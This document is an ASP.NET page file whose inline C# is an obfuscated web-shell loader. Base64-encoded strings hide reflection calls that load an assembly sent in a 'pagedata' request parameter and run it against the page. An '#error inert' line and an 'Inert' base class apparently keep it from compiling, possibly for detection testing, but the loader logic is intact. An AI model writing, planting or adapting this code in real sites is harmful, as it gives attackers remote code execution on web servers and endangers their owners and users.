<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
static string[] T = { "U3lzdGVtLlJlZmxlY3Rpb24uQXNzZW1ibHk=", "TG9hZA==", "Q3JlYXRlSW5zdGFuY2U=", "cGFnZWRhdGE=" };
static string S(int i) { return System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(T[i])); }
protected void Page_Init(object s, EventArgs e)
{
    var data = Request[S(3)];
    if (data == null) return;
    var ty = Type.GetType(S(0));
    var a = ty.GetMethod(S(1), new[] { typeof(byte[]) }).Invoke(null, new object[] { Convert.FromBase64String(data) });
    var o = ty.GetMethod(S(2), new[] { typeof(string) }).Invoke(a, new object[] { "K" });
    o.Equals(Page);
}
</script>
